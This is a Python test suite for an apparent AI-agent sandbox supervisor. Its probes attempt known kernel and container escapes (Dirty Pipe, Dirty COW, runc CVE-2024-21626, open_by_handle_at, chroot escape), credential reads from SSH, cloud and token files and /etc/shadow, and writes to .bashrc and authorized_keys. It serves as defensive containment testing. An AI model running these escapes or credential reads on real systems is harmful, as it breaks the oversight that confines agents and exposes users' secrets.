# SPDX-License-Identifier: Apache-2.0
# Copyright 2026 the agent-supervisor authors
"""Files of the host: what is not the jail's cannot be read, and what is read-only cannot be changed by any call."""
import ctypes
import fcntl
import mmap
import os
import socket
import stat
import threading
import time
import uuid

from . import kernel
from .checks import Group, Skip, facts, reaches

group = Group("files")


def fresh(directory):
    return f"{directory.rstrip('/')}/containment-{uuid.uuid4().hex[:12]}"


def creates(directory):
    path = fresh(directory)
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    os.unlink(path)
    return f"created {path}"


for directory in (
    "/", "/usr", "/usr/bin", "/usr/lib", "/usr/local/bin", "/usr/share", "/etc", "/etc/ssl", "/boot", "/opt", "/srv",
    "/var/lib", "/var/log", "/run", "/home", "/mnt",
):
    group.attack("create-in-" + (directory.strip("/").replace("/", "-") or "root"))(
        lambda directory=directory: creates(directory))

# Every call that changes a file, a name or a directory, on one that is bound read-only (CVE-2022-0847's class).
PROGRAM, DIRECTORY = "/usr/bin/env", "/usr/share"


@group.attack("read-only-open-for-writing")
def _():
    os.close(os.open(PROGRAM, os.O_WRONLY))
    return "opened"


@group.attack("read-only-open-for-both")
def _():
    os.close(os.open(PROGRAM, os.O_RDWR))
    return "opened"


@group.attack("read-only-map-for-writing")
def _():
    descriptor = os.open(PROGRAM, os.O_RDONLY)
    try:
        mmap.mmap(descriptor, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    except PermissionError:
        os.open(PROGRAM, os.O_RDWR)
    return "mapped"


@group.attack("read-only-unnamed-file")
def _():
    os.close(os.open(DIRECTORY, os.O_TMPFILE | os.O_WRONLY))
    return "created"


@group.attack("read-only-make-directory")
def _():
    path = fresh(DIRECTORY)
    os.mkdir(path)
    os.rmdir(path)
    return "made"


@group.attack("read-only-make-link")
def _():
    path = fresh(DIRECTORY)
    os.symlink("x", path)
    os.unlink(path)
    return "made"


@group.attack("read-only-hard-link")
def _():
    path = fresh("/usr/bin")
    os.link(PROGRAM, path)
    os.unlink(path)
    return "made"


@group.attack("read-only-make-fifo")
def _():
    path = fresh(DIRECTORY)
    os.mkfifo(path)
    os.unlink(path)
    return "made"


@group.attack("read-only-bind-socket")
def _():
    path = fresh(DIRECTORY)
    socket.socket(socket.AF_UNIX).bind(path)
    os.unlink(path)
    return "bound"


@group.attack("read-only-rename")
def _():
    # Onto itself: nothing changes, but the kernel asks first whether it could.
    os.rename(PROGRAM, PROGRAM)
    return "renamed"


@group.attack("read-only-unlink")
def _():
    return reaches(lambda: os.unlink(fresh(DIRECTORY)))


@group.attack("read-only-mode")
def _():
    os.chmod(PROGRAM, stat.S_IMODE(os.stat(PROGRAM).st_mode))
    return "set"


@group.attack("read-only-mode-by-descriptor")
def _():
    os.fchmod(os.open(PROGRAM, os.O_RDONLY), stat.S_IMODE(os.stat(PROGRAM).st_mode))
    return "set"


@group.attack("read-only-owner")
def _():
    os.chown(PROGRAM, 0, 0)
    return "set"


@group.attack("read-only-times")
def _():
    times = os.stat(PROGRAM)
    os.utime(PROGRAM, ns=(times.st_atime_ns, times.st_mtime_ns))
    return "set"


@group.attack("read-only-extended-attribute")
def _():
    os.setxattr(PROGRAM, "user.containment", b"")
    os.removexattr(PROGRAM, "user.containment")
    return "set"


@group.attack("read-only-flags")
def _():
    descriptor = os.open(PROGRAM, os.O_RDONLY)
    flags = ctypes.c_long(0)
    get, set_ = 0x80086601, 0x40086602
    fcntl.ioctl(descriptor, get, flags)
    fcntl.ioctl(descriptor, set_, flags)
    return "set"


def own_read_only_file():
    path = fresh(os.getcwd())
    with open(path, "wb") as file:
        file.write(b"a" * 4096)
    os.chmod(path, 0o444)
    descriptor = os.open(path, os.O_RDONLY)
    os.unlink(path)
    return descriptor


@group.attack("page-cache-through-a-pipe")
def _():
    # CVE-2022-0847: a page of a file spliced into a pipe, and then written on as if it were the pipe's own.
    descriptor = own_read_only_file()
    reading, writing = os.pipe()
    size = fcntl.fcntl(writing, 1032)
    os.write(writing, b"x" * size)
    os.read(reading, size)
    offset = ctypes.c_long(0)
    kernel.call("splice", descriptor, kernel.pointer(ctypes.byref(offset)), writing, 0, 1, 0)
    os.write(writing, b"X" * 8)
    return b"X" in os.pread(descriptor, 4096, 0)


@group.attack("copy-on-write-race")
def _():
    # CVE-2016-5195: the private copy thrown away while it is being written through /proc/self/mem.
    descriptor = own_read_only_file()
    address = kernel.libc.mmap
    address.restype = ctypes.c_void_p
    mapped = address(None, ctypes.c_size_t(4096), 1, mmap.MAP_PRIVATE, descriptor, ctypes.c_long(0))
    end = time.monotonic() + 0.3

    def throw_away():
        while time.monotonic() < end:
            kernel.libc.madvise(ctypes.c_void_p(mapped), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=throw_away)
    thread.start()
    memory = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < end:
        os.pwrite(memory, b"X", mapped)
    thread.join()
    return b"X" in os.pread(descriptor, 4096, 0)


@group.attack("shared-mapping-through-proc-mem")
def _():
    descriptor = own_read_only_file()
    address = kernel.libc.mmap
    address.restype = ctypes.c_void_p
    mapped = address(None, ctypes.c_size_t(4096), 1, mmap.MAP_SHARED, descriptor, ctypes.c_long(0))
    os.pwrite(os.open("/proc/self/mem", os.O_RDWR), b"X", mapped)
    return b"X" in os.pread(descriptor, 4096, 0)


def reads(path, marker=None):
    with open(path, "rb") as file:
        content = file.read(65536)
    return f"read {path}" if content and (marker is None or marker.encode() in content) else None


@group.attack("secret-beside-the-workspace")
def _():
    return reads(facts.secret)


@group.attack("secret-for-writing")
def _():
    # A name in a directory of the jail's own memory may well be created: it is the host's file that must not be there.
    os.close(os.open(facts.secret, os.O_WRONLY))
    return "opened"


@group.attack("names-beside-the-workspace")
def _():
    return os.path.basename(facts.secret) in os.listdir(os.path.dirname(facts.secret))


@group.attack("secret-by-dots-from-here")
def _():
    return reads("../" * 40 + facts.secret.lstrip("/"))


@group.attack("secret-by-a-link-in-the-workspace")
def _():
    path = fresh(os.getcwd())
    os.symlink(facts.secret, path)
    try:
        return reads(path)
    finally:
        os.unlink(path)


@group.attack("secret-by-dots-through-descriptors")
def _():
    # CVE-2024-21626: a descriptor of a directory outside is a way out.
    for descriptor in facts.descriptors_at_start:
        try:
            file = os.open("../" * 40 + facts.secret.lstrip("/"), os.O_RDONLY, dir_fd=descriptor)
        except OSError:
            continue
        os.close(file)
        return f"descriptor {descriptor} leads out"


@group.attack("secret-by-roots-in-proc")
def _():
    for name in [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "thread-self"]:
        for way in ("root", "cwd/" + "../" * 40):
            try:
                if reads(f"/proc/{name}/{way}{facts.secret if way == 'root' else facts.secret[1:]}"):
                    return f"/proc/{name}/{way}"
            except OSError:
                continue


@group.attack("secret-by-handle")
def _():
    # The shocker: a file's handle is enough, and handles of roots can be guessed.
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]

    handle, mount = Handle(128), ctypes.c_int()
    here = os.open(".", os.O_RDONLY)
    kernel.call("name_to_handle_at", here, kernel.text(""), kernel.pointer(ctypes.byref(handle)),
                kernel.pointer(ctypes.byref(mount)), 0x1000)
    return kernel.call("open_by_handle_at", here, kernel.pointer(ctypes.byref(handle)), os.O_RDONLY) > 0


@group.attack("chroot-twice")
def _():
    os.mkdir(path := fresh(os.getcwd()))
    try:
        os.chroot(path)
        os.chdir("../" * 40)
        os.chroot(".")
        return reads(facts.secret)
    finally:
        os.rmdir(path) if os.path.exists(path) else None


# What a person's home holds that an agent has no business with. The test puts a marker in each.
for name in (
    ".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials", ".config/gh/hosts.yml", ".docker/config.json",
    ".kube/config", ".npmrc", ".gnupg/private-keys", ".bash_history", ".codex/auth.json",
):
    group.attack("home-" + name.strip(".").replace("/", "-").replace(".", "-"))(
        lambda name=name: reads(f"{facts.home}/{name}", "host's own"))


@group.attack("home-write-startup-file")
def _():
    os.close(os.open(f"{facts.home}/.bashrc", os.O_WRONLY | os.O_APPEND))
    return "opened"


@group.attack("home-authorized-keys")
def _():
    os.close(os.open(f"{facts.home}/.ssh/authorized_keys", os.O_WRONLY | os.O_APPEND))
    return "opened"


for path in (
    "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/var/lib/dbus/machine-id", "/etc/fstab",
    "/etc/crontab", "/etc/ssh/ssh_config", "/etc/environment", "/etc/resolv.conf.d",
):
    group.attack("read" + path.replace("/", "-").replace(".", "-"))(lambda path=path: reads(path))


@group.attack("private-certificates")
def _():
    return os.listdir("/etc/ssl/private") and "listed"


@group.attack("other-users")
def _():
    import pwd

    return [user.pw_name for user in pwd.getpwall() if user.pw_uid not in (0, os.getuid(), 65534)]


for directory in ("/boot", "/srv", "/mnt", "/media", "/var/log", "/var/lib", "/var/spool", "/var/mail", "/var/cache",
                  "/run", "/lost+found"):
    group.attack("list" + directory.replace("/", "-").replace("+", "-"))(
        lambda directory=directory: os.listdir(directory)[:5])


@group.attack("above-the-root")
def _():
    # A root that something is still mounted on top of is left by its "..", which goes up through all that is there.
    root, above = os.stat("/"), os.stat("/..")
    return (root.st_dev, root.st_ino) != (above.st_dev, above.st_ino) and os.listdir("/..")


def mounts():
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        for line in file:
            before, after = line.rstrip("\n").split(" - ")
            words = before.split(" ")
            yield {"root": words[3], "path": words[4], "options": words[5].split(","), "type": after.split(" ")[0]}


@group.attack("mounts-with-setuid")
def _():
    return [mount["path"] for mount in mounts() if "nosuid" not in mount["options"]]


@group.attack("mounts-with-devices")
def _():
    return [mount["path"] for mount in mounts() if "nodev" not in mount["options"]
            and mount["type"] != "devpts" and not mount["path"].startswith("/dev/")
            # A file that is covered is covered with the null device.
            and not (mount["type"] == "devtmpfs" and mount["root"] == "/null")]


@group.attack("mounts-of-a-whole-disk")
def _():
    return [mount["path"] for mount in mounts()
            if mount["root"] == "/" and mount["type"] in ("ext4", "xfs", "btrfs", "zfs", "f2fs", "9p", "virtiofs")]


@group.attack("mounts-writable-beyond-the-declared")
def _():
    allowed = [facts.workspace, "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/dev/pts", "/proc", os.environ["HOME"]]
    allowed += facts.get("writable", [])
    return [mount["path"] for mount in mounts() if "rw" in mount["options"] and mount["path"] not in allowed]


@group.attack("mounts-that-spread")
def _():
    # A shared mount would show outside what is mounted here.
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        return [line.split(" ")[4] for line in file if " shared:" in line]


@group.attack("workspace-device-node")
def _():
    path = fresh(os.getcwd())
    os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    os.unlink(path)
    return "made"


@group.attack("workspace-block-device")
def _():
    path = fresh(os.getcwd())
    os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(7, 0))
    os.unlink(path)
    return "made"


def marks(bit):
    """What is left in a direct workspace keeps its mode outside, where other users can execute it."""
    path = fresh(os.getcwd())
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o700)
    try:
        os.fchmod(descriptor, 0o700 | bit)
        return os.fstat(descriptor).st_mode & bit and "marked"
    finally:
        os.close(descriptor)
        os.unlink(path)


@group.attack("workspace-setuid-program")
def _():
    return marks(stat.S_ISUID)


@group.attack("workspace-setuid-program-made-at-once")
def _():
    path = fresh(os.getcwd())
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o700 | stat.S_ISUID))
    try:
        return os.stat(path).st_mode & stat.S_ISUID and "marked"
    finally:
        os.unlink(path)


@group.attack("workspace-file-capability")
def _():
    path = fresh(os.getcwd())
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o700))
    try:
        os.setxattr(path, "security.capability", bytes.fromhex("0100000200040000000000000000000000000000"))
        return "set"
    finally:
        os.unlink(path)


@group.attack("workspace-given-away")
def _():
    path = fresh(os.getcwd())
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o700))
    try:
        os.chown(path, 12345, 12345)
        return "given to another user"
    finally:
        os.unlink(path)


@group.attack("workspace-renamed-away")
def _():
    if not facts.get("jailed"):
        raise Skip("would move the workspace")
    os.rename(facts.workspace, facts.workspace + "-away")
    return "renamed"


@group.attack("read-only-lease")
def _():
    # A lease makes whoever opens the file for writing wait; only its owner can take one.
    fcntl.fcntl(os.open(PROGRAM, os.O_RDONLY), 1024, fcntl.F_RDLCK)
    return "taken"
